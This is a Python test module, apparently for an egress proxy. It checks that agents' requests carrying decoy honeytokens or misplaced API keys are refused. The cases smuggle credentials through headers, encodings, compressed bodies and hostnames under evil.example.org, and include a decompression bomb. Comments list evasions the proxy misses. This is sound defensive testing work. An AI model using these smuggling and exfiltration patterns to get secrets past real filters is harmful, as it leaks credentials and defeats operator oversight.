"""Decoys, wherever an agent tries one, and known values in bodies that a server has to decode first.

Published work behind the rows: Lance Spitzner, "Honeytokens: The Other Honeypot" (2003); CWE-522; RFC 9110 §8.4.
"""

from __future__ import annotations

import base64
import gzip
import json
import zlib
from collections.abc import Callable

import brotli
import zstandard

from outloop.attacks import frames
from outloop.attacks.case import (
    CLOSED,
    DECOY,
    FOREIGN,
    FOREIGN_DECOY,
    HOST,
    RICH,
    TOKEN,
    Case,
    Cut,
    Heard,
    Talk,
    connect,
    forwarded,
    http2,
    plain,
    request,
    tunnel,
    with_body,
)  # fmt: skip
from outloop.attacks.forms import PLAIN
from outloop.attacks.house import GLOBEX_AGENT, OPEN_AGENT, OTHER
from outloop.attacks.upstream.replies import reply

OWN, OTHERS = "acme/acme-bait", "globex/globex-bait"
BASIS = "Spitzner, Honeytokens (2003)"
CODED = "RFC 9110 §8.4"
BLOB = "Content-Type: application/octet-stream"
ELSEWHERE = "evil.example.org"
SPELLED = ("raw", "percent-upper", "percent-twice", "base64-0", "base64-1", "base64-2-url", "basic", "hex", "hex-upper")
SMALL = "small.example.com"
# The whole answer, but for the ids: it is one and the same for every decoy, whoever planted it.
TOLD = {
    "type": "about:blank",
    "title": "A decoy credential was used",
    "status": 403,
    "detail": "the request carries a decoy: a credential that opens nothing, and whose use is reported",
    "decision": "deny",
    "reason": "decoy_used",
    "service": "api",
    "next_step": "Stop and tell the operator where this credential came from.",
}


def _as(agent: tuple[str, str]) -> str:
    return "Proxy-Authorization: Basic " + base64.b64encode(":".join(agent).encode()).decode()


def _tells_nothing(heard: Heard) -> str:
    told = [each for each in (DECOY, FOREIGN_DECOY, FOREIGN, TOKEN, "bait", "globex") if each.encode() in heard.everything]
    return f"the agent is told {told}" if told else ""


def _is_the_same_for_all(heard: Heard) -> str:
    document = json.loads(heard.body)
    document.pop("audit_id")
    return _tells_nothing(heard) or ("" if document == TOLD else f"the document is {document}")


def _used(
    name: str, talk: Talk, status: int = 403, reason: str = "decoy_used", *, decoys: tuple[str, ...] = (OWN,), **more: object
) -> Case:
    known = {"check": _tells_nothing, **more}
    return Case(f"decoy-{name}", "G7", talk, status, reason, decoys=decoys, basis=BASIS, **known)  # type: ignore[arg-type]


def _posts(body: bytes, *lines: str, target: str = "/items/1", host: str = HOST) -> Talk:
    return tunnel(with_body(target, body, *(lines or (BLOB,)), host=host), to=f"{host}:443")


def _passed(target: str, *lines: str, body: bytes = b"") -> tuple[bytes]:
    return (forwarded(target, *lines, method="POST" if body else "GET", body=body),)


PAIR = base64.b64encode(f"somebody:{DECOY}".encode()).decode()
PLACES = (
    *(_used(f"query-{name}", tunnel(request(f"/a?q={PLAIN[name](DECOY).decode().replace(' ', '%20')}"))) for name in SPELLED),
    *(_used(f"header-{name}", tunnel(request("/a", f"X-Note: {PLAIN[name](DECOY).decode()}"))) for name in SPELLED),
    *(_used(f"body-{name}", _posts(b"note=" + PLAIN[name](DECOY) + b".")) for name in (*SPELLED, "json-u-lower",
        "json-of-percent", "percent-of-json")),
    *(_used(f"path-{name}", tunnel(request(f"/a/{PLAIN[name](DECOY).decode()}"))) for name in ("raw", "base64-0", "hex")),
    # Where a credential of the agent's own would be dropped without a word.
    *(_used(f"header-{line.partition(':')[0].lower()}", tunnel(request("/a", line))) for line in (
        f"Authorization: Bearer {DECOY}", f"Cookie: a=b; session={DECOY}", f"X-Api-Key: {DECOY}", f"Private-Token: {DECOY}",
        f"X_Api_Key: {DECOY}", f"X-Forwarded-Host: {DECOY}", f"Connection: {DECOY}", f"Accept-Encoding: {DECOY}",
        f"Proxy-Connection: {DECOY}", f"Referer: https://{HOST}/?k={DECOY}")),
    _used("basic-password", tunnel(request("/a", f"Authorization: Basic {PAIR}"))),
    _used("header-name", tunnel(request("/a", f"{DECOY}: x"))),
    _used("stripped-query", tunnel(request(f"/a?access_token={DECOY}"))),
    _used("query-auth", tunnel(request(f"/a?vendor_key={DECOY}", host="query.example.com"), to="query.example.com:443")),
    _used("two-at-once", tunnel(request(f"/a?q={DECOY}&r={FOREIGN_DECOY}")), decoys=(OWN, OTHERS)),
    _used("beside-a-key", tunnel(request("/a"), request(f"/a?q={DECOY}&r={TOKEN}")), upstream=_passed("/a")),
    _used("second-request", tunnel(request("/a"), request(f"/a?q={DECOY}")), upstream=_passed("/a")),
    _used("head", tunnel(request(f"/a?q={DECOY}", method="HEAD"))),
    _used("socket", tunnel(request("/socket", "Connection: Upgrade", "Upgrade: websocket", f"Sec-WebSocket-Protocol: {DECOY}",
        "Sec-WebSocket-Version: 13", "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ=="))),
    _used("json-body", _posts(f'{{"note": "{DECOY}"}}'.encode(), "Content-Type: application/json")),
    _used("body-that-a-rule-reads", _posts(f'{{"max": 1, "note": "{DECOY}"}}'.encode(), "Content-Type: application/json",
        target="/links")),
    _used("body-over-the-limit", tunnel(request("/links", "Content-Type: application/json", "Transfer-Encoding: chunked",
        method="POST", host=SMALL, body=b"%x\r\n%b\r\n0\r\n\r\n" % (len(DECOY) + 100, b" " * 100 + DECOY.encode())),
        to=f"{SMALL}:443")),
    _used("h2-header", http2(frames.headers(*frames.head(("x-note", DECOY), path="/a")))),
    _used("h2-authorization", http2(frames.headers(*frames.head(("authorization", f"Bearer {DECOY}"), path="/a")))),
    _used("h2-cookie-crumb", http2(frames.headers(*frames.head(("cookie", "a=b"), ("cookie", DECOY), path="/a")))),
    _used("h2-body", http2(frames.open_headers(*frames.head(("content-length", str(len(DECOY))), ("content-type", "a/b"),
        method="POST", path="/items/1")) + frames.data(DECOY[:9].encode(), flags=()) + frames.data(DECOY[9:].encode()))),
    _used("h2-trailer", http2(frames.open_headers(*frames.head(("content-length", "3"), ("content-type", "a/b"), method="POST",
        path="/items/1")) + frames.data(b"abc", flags=()) + frames.headers(("x-note", DECOY)))),
    _used("of-another-workspace", tunnel(request(f"/a?q={FOREIGN_DECOY}")), decoys=(OTHERS,), check=_is_the_same_for_all),
    _used("of-the-own-workspace", tunnel(request(f"/a?q={DECOY}")), check=_is_the_same_for_all),
    _used("by-a-neighbour", Talk((request(f"/a?q={DECOY}", host=OTHER),), connect(f"{OTHER}:443", _as(GLOBEX_AGENT)), OTHER)),
    _used("own-pages", plain(request("http://outloop.internal/", f"X-Note: {DECOY}", host="outloop.internal"))),
)  # fmt: skip

# What is refused for more than the decoy: the first reason that applies is told, and the alarm rings all the same

PRECEDENCE = (
    _used("and-a-denied-path", tunnel(request(f"/private/1?q={DECOY}"))),
    _used("and-another-method", tunnel(request("/a", f"X-Note: {DECOY}", method="PUT"))),
    _used("and-no-such-service", tunnel(request(f"/other?q={DECOY}", host="based.example.com"), to="based.example.com:443")),
    _used("and-dot-segments", tunnel(request(f"/a/../b?q={DECOY}")), 400, "malformed_request"),
    _used("and-no-valid-head", tunnel(request("/a", f"X-Note : {DECOY}")), 400, "malformed_request"),
    _used("and-a-folded-head", tunnel(request("/a", "X-Note: x", f" {DECOY}")), 400, "malformed_request"),
    _used("and-another-host", tunnel(request(f"/a?q={DECOY}", host=OTHER)), 421, "host_mismatch"),
    _used("and-cleartext", plain(request(f"http://{HOST}/a?q={DECOY}")), 403, "cleartext_refused"),
    _used("and-no-claim", plain(request(f"http://{ELSEWHERE}/a?q={DECOY}", host=ELSEWHERE)), 403, "host_not_allowed"),
    _used("and-no-claim-in-a-body", plain(with_body(f"http://{ELSEWHERE}/a", DECOY.encode(), BLOB, host=ELSEWHERE)), 403,
        "host_not_allowed"),
    _used("and-user-info", plain(request(f"http://somebody:{DECOY}@{ELSEWHERE}/a", host=ELSEWHERE)), 400, "malformed_request"),
    _used("and-no-agent", plain(request(f"http://{ELSEWHERE}/a?q={DECOY}", _as(("acme", "nobody")), host=ELSEWHERE)), 407,
        "agent_unknown"),
    _used("and-a-denied-path-in-a-body", _posts(DECOY.encode(), target="/private/1"), 403, "denied_by_rule"),
    _used("and-a-body-too-large", _posts(b" " * 100 + DECOY.encode(), target="/links", host=SMALL), 413, "body_too_large"),
    _used("in-a-connect", plain(connect(f"{HOST}:443", f"X-Note: {DECOY}"))),
    _used("in-a-connect-without-a-claim", plain(connect(f"{ELSEWHERE}:443", f"Authorization: Bearer {DECOY}")), 403,
        "host_not_allowed"),
    _used("in-a-connect-to-anywhere", plain(connect(f"{ELSEWHERE}:443", _as(OPEN_AGENT), f"Cookie: {DECOY}"))),
    _used("in-a-name-to-resolve", plain(connect(f"{DECOY}.{ELSEWHERE}:443", _as(OPEN_AGENT)))),
    Case("decoy-as-proxy-token", "G7", plain(connect(f"{HOST}:443", _as(("acme", DECOY)))), 407, "agent_unknown", basis=BASIS,
         limit="what stands in Proxy-Authorization is between the agent and this proxy: a wrong token is refused as one"),
)  # fmt: skip

# Long uploads

LONG = b"x" * 200_000


def _cut(name: str, body: bytes, *lines: str, unseen: bytes, reason: str, decoys: tuple[str, ...] = ()) -> Case:
    sent = CutBefore(b"POST /items/1 HTTP/1.1\r\n", unseen)
    return Case(name, "G2", _posts(body, BLOB, *lines), CLOSED, "", (sent,), (("allow", reason),), decoys=decoys, basis=BASIS)


class CutBefore(Cut):
    """An upload that was cut before all of `unseen` had left."""

    def __init__(self, start: bytes, unseen: bytes) -> None:
        super().__init__(start)
        object.__setattr__(self, "unseen", unseen)

    def __eq__(self, other: object) -> bool:
        return isinstance(other, Cut) and other.start.startswith(self.start) and vars(self)["unseen"] not in other.start

    __hash__ = None  # type: ignore[assignment]


def _noise(size: int) -> bytes:
    """Return what no coding shortens, the same at every run."""
    return b"".join(zlib.crc32(b"%d" % number).to_bytes(4, "big") for number in range(size // 4))


CODINGS: dict[str, Callable[[bytes], bytes]] = {
    "gzip": lambda data: gzip.compress(data, mtime=0),
    "x-gzip": lambda data: gzip.compress(data, mtime=0),
    "deflate": zlib.compress,
    "br": brotli.compress,
    "zstd": zstandard.ZstdCompressor().compress,
}


def _stacked(data: bytes) -> bytes:
    return CODINGS["br"](CODINGS["gzip"](data))


HIDDEN = _noise(100_000) + TOKEN.encode() + _noise(100_000)
BAITED = _noise(100_000) + DECOY.encode() + _noise(100_000)
UPLOADS = (
    _cut("decoy-long-body", LONG + DECOY.encode() + LONG, unseen=DECOY.encode(), reason="decoy_used", decoys=(OWN,)),
    _cut("decoy-long-body-of-another", LONG + FOREIGN_DECOY.encode() + LONG, unseen=FOREIGN_DECOY.encode(), reason="decoy_used",
        decoys=(OTHERS,)),
    *(_cut(f"decoy-long-{name}", CODINGS[name](BAITED), f"Content-Encoding: {name}", unseen=CODINGS[name](BAITED)[-64:],
        reason="decoy_used", decoys=(OWN,)) for name in ("gzip", "br", "zstd")),
    *(_cut(f"out-long-{name}", CODINGS[name](HIDDEN), f"Content-Encoding: {name}", unseen=CODINGS[name](HIDDEN)[-64:],
        reason="credential_misplaced") for name in CODINGS),
    _cut("out-long-gzip-without-saying-so", CODINGS["gzip"](HIDDEN), unseen=CODINGS["gzip"](HIDDEN)[-64:],
        reason="credential_misplaced"),
    _cut("out-long-in-no-coding-it-declares", LONG, "Content-Encoding: gzip", unseen=LONG, reason="malformed_request"),
)  # fmt: skip


def _coded(
    name: str, data: bytes, encoding: str, reason: str = "credential_misplaced", status: int = 403, **more: object
) -> Case:
    lines = (f"Content-Encoding: {encoding}",) if encoding else ()
    talk = _posts(data, BLOB, *lines)
    return Case(f"out-{name}", "G2", talk, status, reason, check=_tells_nothing, basis=CODED, **more)  # type: ignore[arg-type]


def _multipart(value: str) -> bytes:
    return f'--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n{value}\r\n--x--\r\n'.encode()


CODED_BODIES = (
    *(_coded(f"body-in-{name}", CODINGS[name](b"note=" + TOKEN.encode()), name) for name in CODINGS),
    *(_coded(f"decoy-in-{name}", CODINGS[name](b"note=" + DECOY.encode()), name, "decoy_used", decoys=(OWN,)) for name in
        CODINGS),
    *(_coded(f"body-in-{name}-without-saying-so", CODINGS[name](b"note=" + TOKEN.encode()), "") for name in ("gzip", "deflate",
        "zstd")),
    _coded("body-in-two-codings", _stacked(TOKEN.encode()), "gzip, br"),
    _coded("body-in-raw-deflate", zlib.compress(b"note=" + TOKEN.encode())[2:-4], "deflate"),
    _coded("body-in-base64-in-gzip", CODINGS["gzip"](PLAIN["base64-1"](TOKEN)), "GZIP"),
    _coded("body-in-identity", TOKEN.encode(), "identity"),
    _coded("foreign-key-in-gzip", CODINGS["gzip"](FOREIGN.encode()), "gzip", "body_not_allowed"),
    _coded("body-in-no-coding-it-declares", b"a plain word", "gzip", "malformed_request", 400),
    _coded("body-behind-the-end-of-its-coding", CODINGS["deflate"](b"word") + TOKEN.encode()[::-1], "deflate",
        "malformed_request", 400),
    _coded("body-that-explodes", CODINGS["gzip"](bytes(9_000_000)), "gzip", "malformed_request", 400),
    _coded("multipart-body", _multipart(TOKEN), ""),
    _coded("multipart-body-of-bait", _multipart(DECOY), "", "decoy_used", decoys=(OWN,)),
    *(Case(f"coded-upload-{name}", "G3", _posts(CODINGS[name](b"a plain word"), BLOB, f"Content-Encoding: {name}"), 200, "OK",
        _passed("/items/1", BLOB, f"Content-Encoding: {name}", body=CODINGS[name](b"a plain word")), body=b"ok") for name in
        CODINGS),
    Case("coded-upload-of-an-unknown-kind", "G3", _posts(b"a plain word", BLOB, "Content-Encoding: aws-chunked"), 200, "OK",
        _passed("/items/1", BLOB, "Content-Encoding: aws-chunked", body=b"a plain word"), body=b"ok"),
    Case("upload-that-begins-like-gzip", "G3", _posts(b"\x1f\x8b\x08 and then no more of it"), 200, "OK",
        _passed("/items/1", BLOB, body=b"\x1f\x8b\x08 and then no more of it"), body=b"ok"),
    Case("out-brotli-without-saying-so", "G2", _posts(CODINGS["br"](TOKEN.encode() * 2)), 200, "OK",
        _passed("/items/1", BLOB, body=CODINGS["br"](TOKEN.encode() * 2)), body=b"ok", basis=CODED,
        limit="brotli and raw deflate begin with no magic: without a Content-Encoding nobody can tell them from other bytes"),
)  # fmt: skip

# Keys where others are dropped without a word, and in their own place


def _misplaced(name: str, *lines: str, target: str = "/a", host: str = HOST) -> Case:
    talk = tunnel(request(target, *lines, host=host), to=f"{host}:443")
    return Case(f"out-{name}", "G2", talk, 403, "credential_misplaced", check=_tells_nothing, basis="CWE-522")


DROPPED = (
    _misplaced("another-services-key-in-authorization", f"Authorization: Bearer {RICH}"),
    _misplaced("own-key-in-another-credential-header", f"X-Api-Key: {TOKEN}"),
    _misplaced("own-key-in-a-cookie", f"Cookie: a=b; c={TOKEN}"),
    _misplaced("own-key-in-a-stripped-parameter", target=f"/a?access_token={TOKEN}"),
    _misplaced("own-key-in-a-hop-header", f"Connection: {TOKEN}"),
    _misplaced("own-key-in-a-forwarding-header", f"X-Forwarded-Host: {TOKEN}"),
    _misplaced("own-key-in-basic", f"Authorization: Basic {base64.b64encode(b'x:' + TOKEN.encode()).decode()}"),
    *(Case(f"out-key-in-a-connect-{name}", "G2", plain(connect(*lines)), 403, reason, check=_tells_nothing, basis="CWE-522")
        for name, lines, reason in (
            ("header", (f"{HOST}:443", f"X-Note: {TOKEN}"), "credential_misplaced"),
            ("name", (f"{TOKEN}.{ELSEWHERE}:443",), "host_not_allowed"),
            ("name-of-a-neighbour", (f"{TOKEN}.{ELSEWHERE}:443", _as(OPEN_AGENT)), "body_not_allowed"),
            ("header-of-a-neighbour", (f"{OTHER}:443", _as(GLOBEX_AGENT), f"X-Note: {TOKEN}"), "body_not_allowed"))),
    Case("foreign-key-in-a-request-that-is-refused-for-more", "G8", tunnel(request(f"/private/1?q={FOREIGN}")), 403,
        "denied_by_rule", check=_tells_nothing),
    Case("key-in-a-request-of-nobodys", "G8", plain(request(f"http://{ELSEWHERE}/a?q={TOKEN}", _as(("acme", "nobody")),
        host=ELSEWHERE)), 407, "agent_unknown", check=_tells_nothing),
    Case("out-foreign-key-in-authorization", "G7", tunnel(request("/a", f"Authorization: Bearer {FOREIGN}")), 403,
        "body_not_allowed", check=_tells_nothing, basis="CWE-522"),
    Case("own-key-in-its-own-place", "G2", tunnel(request("/a", f"Authorization: Bearer {TOKEN}")), 200, "OK", _passed("/a"),
        body=b"ok"),
    Case("own-key-in-its-own-header", "G2", tunnel(request("/a", f"X-Vendor-Key: {TOKEN}", host="header.example.com"),
        to="header.example.com:443"), 200, "OK", (forwarded("/a", host="header.example.com", token="").replace(
        b"Accept-Encoding: identity\r\n", f"Accept-Encoding: identity\r\nX-Vendor-Key: {TOKEN}\r\n".encode()),), body=b"ok"),
)  # fmt: skip

# What a decoy does not stop

QUIET = (
    Case("decoy-in-an-answer", "G1", tunnel(request("/a")), 200, "OK", _passed("/a"), reply=reply(DECOY.encode()),
         body=DECOY.encode(), basis=BASIS),  # that is where it is to be found
    Case("decoy-in-half", "G7", tunnel(request(f"/a?q={DECOY[:18]}")), 200, "OK", _passed(f"/a?q={DECOY[:18]}"), body=b"ok"),
    Case("decoy-reversed", "G7", tunnel(request(f"/a?q={DECOY[::-1]}")), 200, "OK", _passed(f"/a?q={DECOY[::-1]}"), body=b"ok",
         limit="a decoy is looked for in the plain forms: who disguises it gets past", basis=BASIS),
    Case("decoy-in-a-trailer", "G7", tunnel(request("/items/1", BLOB, "Transfer-Encoding: chunked", method="POST",
         body=b"3\r\nabc\r\n0\r\nX-Note: " + DECOY.encode() + b"\r\n\r\n")), 200, "OK",
         (forwarded("/items/1", BLOB, method="POST", body=b"3\r\nabc\r\n0\r\n\r\n", framing="Transfer-Encoding: chunked"),),
         body=b"ok", basis=BASIS,
         limit="HTTP/1.1 trailers are dropped unread: what stands in one goes nowhere, and rings no alarm"),
)  # fmt: skip

CARRIED_OUT = (*PLACES, *PRECEDENCE, *UPLOADS, *CODED_BODIES, *DROPPED, *QUIET)
